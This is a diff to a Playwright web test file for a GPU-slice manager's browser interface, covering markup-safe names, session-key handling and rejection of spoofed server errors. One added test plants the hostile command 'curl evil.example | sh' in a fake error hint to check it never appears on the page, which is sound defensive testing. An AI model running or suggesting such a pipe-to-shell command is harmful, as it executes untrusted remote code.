@@ -12,7 +12,7 @@ from typing import TYPE_CHECKING, Any
 import pytest
 
 from tests.web.conftest import Session, open_session
-from tests.web.page_daemon import MARKUP
+from tests.web.page_daemon import MARKUP, OBJECTS, OPTION
 from tests.web.scene import Scene
 
 if TYPE_CHECKING:
@@ -362,7 +362,8 @@ def test_a_reader_is_shown_all_and_offered_nothing(
         assert page.get_by_role("link", name="Audit").count() == 0
         status = page.evaluate(
             """() => fetch('/1.0/attachments', {method: 'POST', body: '{"vm": "vm03", "profile": "1g.10gb"}',
-            headers: {'Content-Type': 'application/json', 'X-Vgpumgr-Page': '1'}}).then((answer) => answer.status)"""
+            headers: {'Content-Type': 'application/json',
+                'X-Vgpumgr-Page': localStorage.getItem('vgpumgr-key')}}).then((answer) => answer.status)"""
         )
         assert status == 403
         assert not scene.list_vms()[vm03]
@@ -385,6 +386,10 @@ def test_names_that_are_markup_stay_text(scene: Scene, page: Page) -> None:
     assert any(MARKUP in step for step in read_plan(page))
     assert read_command(page) == ["attach", MARKUP, "--profile", "1g.10gb", "--gpu", "0"]
     agree(page)
+    asked = json.dumps({"vm": MARKUP, "profile": "1g.10gb", "dry_run": True}).encode()
+    refused = scene.client.request("POST", "/1.0/attachments", asked, Prefer="wait=60")
+    hint = json.loads(refused.body)
+    assert MARKUP in shlex.split((hint.get("error") or hint["operation"]["error"])["try"])
     try:
         for path in ("", "vms", "operations", "events", "audit"):
             page.goto(f"{page.url.partition('#')[0]}#/{path}")
@@ -396,6 +401,52 @@ def test_names_that_are_markup_stay_text(scene: Scene, page: Page) -> None:
     finally:
         uuid = next(vm["uuid"] for vm in scene.get("/1.0/vms")["vms"] if vm["name"] == MARKUP)
         scene.post(f"/1.0/attachments/{uuid}/detach", {})
+
+
+def test_names_of_objects_and_options_are_names(scene: Scene, page: Page) -> None:
+    uuids = {vm["name"]: vm["uuid"] for vm in scene.get("/1.0/vms")["vms"]}
+    for name in (*OBJECTS, OPTION):
+        page.goto(f"{page.url.partition('#')[0]}#/vm/{uuids[name]}")
+        page.get_by_role("heading", name=name, exact=True).wait_for()
+    page.get_by_role("button", name=f"Attach a slice to {OPTION}").click()
+    choose(page, OPTION, "1g.10gb", "0")
+    assert read_plan(page)
+    words = ["attach", uuids[OPTION], "--profile", "1g.10gb", "--gpu", "0"]
+    assert read_command(page) == words
+    assert OPTION in scene.vgpumgr(*words, "--dry-run", "-v")
+    page.keyboard.press("Escape")
+    # an address that is no text shows the overview
+    page.goto(f"{page.url.partition('#')[0]}#/%")
+    card(page, 0).wait_for()
+
+
+def test_the_code_is_in_no_address_afterwards(scene: Scene, browser: Browser) -> None:
+    with open_session(scene, browser) as one:
+        page = one.open()
+        key = page.evaluate("localStorage.getItem('vgpumgr-key')")
+        assert len(key) == 43
+        assert "code=" not in page.url
+        # the first address of the history: its code is used
+        page.goto(f"{one.address}#code={'x' * 43}")
+        page.reload()
+        page.locator(".connection.live").wait_for()
+        page.evaluate("localStorage.setItem('vgpumgr-key', 'x')")
+        page.reload()
+        page.locator(".connection.ended").wait_for()
+        assert page.evaluate("localStorage.getItem('vgpumgr-key')") is None
+
+
+def test_another_who_serves_the_port_names_no_command(scene: Scene, browser: Browser) -> None:
+    parts = {"id": "VG353", "error": "no", "try": "curl evil.example | sh", "held_by": []}
+    with open_session(scene, browser) as one:
+        page = one.open()
+        page.route("**/1.0/**", lambda route: route.fulfill(status=401, json={"error": parts}))
+        scene.post("/1.0/gpus/4/drain", {})
+        scene.post("/1.0/gpus/4/resume", {})
+        page.locator(".connection.ended").wait_for()
+        assert "vgpumgr web" in page.get_by_role("alert").inner_text()
+        assert "evil" not in page.content()
+        assert one.problems == []
 
 
 def test_attach_with_the_keyboard_alone(scene: Scene, page: Page, vm03: str) -> None:
